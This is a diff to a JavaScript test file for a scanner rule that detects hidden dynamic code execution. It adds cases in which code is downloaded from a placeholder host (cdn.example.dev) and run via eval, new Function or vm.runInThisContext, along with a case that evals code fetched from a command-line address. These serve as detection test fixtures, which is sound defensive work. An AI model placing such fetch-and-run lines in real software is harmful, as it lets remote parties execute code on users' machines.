@@ -17,8 +17,26 @@ ruleTester('hidden-dynamic-code', {
     `const fs = require("fs"), path = require("path");\neval(fs.readFileSync(path.join(__dirname, "polyfill.js"), "utf8"));`,
     // A local variable named __dirname is not the module's folder.
     `const fs = require("fs");\nfunction run(__dirname) { return new Function(fs.readFileSync(__dirname + "/x.txt", "utf8")); }`,
+    // A model's answer run in a sandbox: fields of a JSON response are data, not a download of code.
+    `const vm = require("vm");\nconst r = await fetch("https://api.vendor.dev/v1/run", { method: "POST" });\nconst { code } = await r.json();\nvm.runInNewContext(code, {});`,
+    // An address the user gives.
+    `eval(await (await fetch(process.argv[2])).text());`,
   ],
   invalid: [
+    // Code downloaded from a fixed address and run: not the program in the package.
+    {
+      code: `const code = await (await fetch("https://cdn.example.dev/agent/core.js")).text();\nnew Function(code)();`,
+      findings: [{ severity: 'medium', line: 2, message: /downloaded at run time from https:\/\/cdn\.example\.dev\/agent\/core\.js/ }],
+      check: (f) => assert.strictEqual(f[0].evidence.downloadsFrom, 'https://cdn.example.dev/agent/core.js'),
+    },
+    {
+      code: `fetch("https://cdn.example.dev/p.js").then((r) => r.text()).then((t) => eval(t));`,
+      findings: [{ severity: 'medium', line: 1 }],
+    },
+    {
+      code: `const vm = require("vm");\n(async () => { vm.runInThisContext(Buffer.from(await (await fetch("https://cdn.example.dev/c.bin")).arrayBuffer()).toString()); })();`,
+      findings: [{ severity: 'medium', line: 2 }],
+    },
     // Code read from a file of the package not named as JavaScript, inflated and run: the scanner reads that file (loadsFile).
     {
       code: `const fs = require("fs"), path = require("path"), zlib = require("zlib");\nconst code = zlib.gunzipSync(fs.readFileSync(path.join(__dirname, "../lib/app.gz"))).toString("utf8");\nnew Function("require", code)(require);`,
